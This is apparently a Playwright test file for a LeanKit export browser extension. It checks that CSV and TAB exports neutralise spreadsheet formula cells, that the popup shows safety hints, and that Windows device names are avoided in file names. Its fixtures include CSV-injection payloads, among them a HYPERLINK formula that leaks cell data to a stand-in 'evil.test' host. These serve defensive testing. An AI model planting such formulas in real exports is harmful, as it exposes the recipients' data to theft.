import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { expectNoAxeViolations } from './accessibility';
import { servedBytes } from './engineSupport';
import { expect, test } from './fixtures';

/**
 * Safe by default in spreadsheets (issue 12, items 7 and 8): with the Excel-friendly setting on,
 * CSV and TAB files open in a spreadsheet without running any cell as a formula, whatever column
 * the cell is in; the popup and the board button's menu say which choice is safe; and a file name
 * pattern never yields a name Windows reserves for a device.
 */

const BOM = '\uFEFF';
/** What a spreadsheet runs as a formula (OWASP): a trigger at the start, after spaces or a line break. */
const RUNS_AS_FORMULA = /(?:^|\n)[ \u00a0]*[=+\-@\t\r]/;
const SAFE_HINT = 'CSV and TAB are safe to open in Excel';
const UNSAFE_HINT = 'could run as a formula';

/** Turns the Excel-friendly setting on or off with the options page's own checkbox. */
async function setExcelFriendly(options: Page, on: boolean): Promise<void> {
  await options.getByRole('checkbox', { name: /^Excel-friendly/ }).setChecked(on);
}

async function openOptions(page: Page, url: string): Promise<Page> {
  await page.goto(url);
  await expect(page.getByRole('heading', { name: 'Exports', exact: true })).toBeVisible();
  return page;
}

/** The rows of a TAB file: no quoting, CRLF between rows, a tab between cells. */
function tabRows(text: string): string[][] {
  return text
    .split('\r\n')
    .filter((line) => line !== '')
    .map((line) => line.split('\t'));
}

function csvRows(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/**
 * Every cell of the file is LeanKit's cell, or that cell with a leading `'` when it would run as a
 * formula (the simulator's numbers are never negative, so only text cells do); no cell of the
 * file runs as one.
 */
function expectGuardedCopy(file: string[][], served: string[][]): void {
  expect(file).toHaveLength(served.length);
  file.forEach((row, r) => {
    expect(row).toHaveLength(served[r]?.length ?? 0);
    row.forEach((cell, c) => {
      const original = served[r]?.[c] ?? '';
      expect(cell, `row ${r}, column ${c}`).toBe(
        RUNS_AS_FORMULA.test(original) ? `'${original}` : original,
      );
      expect(RUNS_AS_FORMULA.test(cell), `row ${r}, column ${c}`).toBe(false);
    });
  });
}

test.describe('with the Excel-friendly setting on', () => {
  test('a TAB export is guarded like CSV: BOM, every formula-like cell made text, nothing else changed', async ({
    simulator,
    extension,
    popup,
    downloadDir,
  }) => {
    await popup.signInAs(simulator.demo);
    await setExcelFriendly(
      await openOptions(await extension.context.newPage(), extension.extensionUrl('options.html')),
      true,
    );
    await popup.chooseFormat('TAB');
    await popup.downloadButton('Cards').click();
    const fileName = await popup.waitForSavedFile();
    expect(fileName).toMatch(/\.tsv$/);

    const served = (await servedBytes(simulator, 'cards?format=tab')).toString('utf8');
    // The simulator's titles start with =, +, - and @: there is something to guard.
    expect(served).toMatch(/(^|\t)[=+@-]/m);
    const file = await readFile(join(downloadDir, fileName), 'utf8');
    expect(file.startsWith(BOM)).toBe(true);
    expect(file.endsWith('\r\n')).toBe(true);
    const rows = tabRows(file.slice(BOM.length));
    expect(rows).toHaveLength(simulator.boards.length * 40 + 1);
    expectGuardedCopy(rows, tabRows(served));
  });

  test.describe('a server whose number, date and boolean columns hold formulas', () => {
    const evil = {
      cardSize: '+1+1',
      commentsCount: '-2+3',
      plannedStartDate: '=HYPERLINK("https://evil.test/?leak="&A1,"Open")',
      creationDate: '@SUM(A1:A9)',
      isCardBlocked: ' =1+1',
    };
    test.use({ simulatorOptions: { cellText: evil } });

    for (const { label, extension, rowsOf } of [
      { label: 'CSV', extension: 'csv', rowsOf: csvRows },
      { label: 'TAB', extension: 'tsv', rowsOf: tabRows },
    ] as const) {
      test(`${label}: those cells are guarded too; honest numbers are left alone`, async ({
        simulator,
        extension: browser,
        popup,
        downloadDir,
      }) => {
        await popup.signInAs(simulator.demo);
        await setExcelFriendly(
          await openOptions(await browser.context.newPage(), browser.extensionUrl('options.html')),
          true,
        );
        await popup.chooseFormat(label);
        await popup.downloadButton('Cards').click();
        const fileName = await popup.waitForSavedFile();
        expect(fileName.endsWith(`.${extension}`)).toBe(true);

        const file = await readFile(join(downloadDir, fileName), 'utf8');
        expect(file.startsWith(BOM)).toBe(true);
        const [header = [], ...rows] = rowsOf(file.slice(BOM.length));
        expect(rows.length).toBe(simulator.boards.length * 40);
        const column = (id: string) => header.indexOf(id);
        for (const row of rows) {
          for (const [id, text] of Object.entries(evil)) {
            expect(row[column(id)], id).toBe(`'${text}`);
          }
          // An honest int column keeps its number, so the spreadsheet can still add it up.
          expect(row[column('attachmentsCount')]).toMatch(/^\d+$/);
        }
      });
    }
  });
});

test.describe('which format is safe to open in a spreadsheet', () => {
  test('the popup says so under the formats, and follows the setting', async ({
    simulator,
    extension,
    popup,
  }) => {
    await popup.signInAs(simulator.demo);
    const formats = popup.page.getByRole('group', { name: 'Format' });
    await expect(formats).toHaveAccessibleDescription(new RegExp(UNSAFE_HINT));
    await expect(formats).toContainText(UNSAFE_HINT);
    await expectNoAxeViolations(popup.page);

    const options = await openOptions(
      await extension.context.newPage(),
      extension.extensionUrl('options.html'),
    );
    await setExcelFriendly(options, true);
    await expect(formats).toHaveAccessibleDescription(new RegExp(SAFE_HINT));
    await expect(formats).toContainText(SAFE_HINT);
    await expectNoAxeViolations(popup.page);
  });

  test('the board button’s menu says so beside its formats', async ({
    simulator,
    extension,
    popup,
    openBoard,
  }) => {
    await popup.signInAs(simulator.demo);
    await setExcelFriendly(
      await openOptions(await extension.context.newPage(), extension.extensionUrl('options.html')),
      true,
    );
    const board = await openBoard(simulator.boards[0]?.id ?? '');
    await expect(board.exportButton).toBeVisible();
    await board.menuButton.click();
    await expect(board.menu).toContainText(SAFE_HINT);
    for (const format of ['CSV', 'TAB', 'JSON']) {
      await expect(
        board.page.getByRole('menuitemradio', { name: format }),
      ).toHaveAccessibleDescription(new RegExp(SAFE_HINT));
    }
    await expectNoAxeViolations(board.page, 'leankit-exporter-button');
  });
});

test.describe('a file name pattern that would give a name Windows keeps for a device', () => {
  for (const { pattern, expected } of [
    { pattern: 'NUL.{report}', expected: 'leankit-NUL.cards.csv' },
    { pattern: 'Con .{report}', expected: 'leankit-Con .cards.csv' },
  ]) {
    test(`${pattern} saves ${expected}`, async ({ simulator, extension, popup, downloadDir }) => {
      await popup.signInAs(simulator.demo);
      const options = await openOptions(
        await extension.context.newPage(),
        extension.extensionUrl('options.html'),
      );
      await options.getByRole('textbox', { name: 'File name pattern' }).fill(pattern);
      // Stored once the page shows an example name (a pattern it cannot use shows why instead).
      await expect(options.getByText('Example:')).toContainText('.cards.csv');

      await popup.page.bringToFront();
      await popup.downloadButton('Cards').click();
      expect(await popup.waitForSavedFile()).toBe(expected);
      expect(await readdir(downloadDir)).toEqual([expected]);
      const served = await servedBytes(simulator, 'cards?format=csv');
      expect((await readFile(join(downloadDir, expected))).equals(served)).toBe(true);
      // The options page's example names the file the same way.
      await expect(options.getByText('Example:')).toHaveText(`Example: ${expected}`);
    });
  }
});
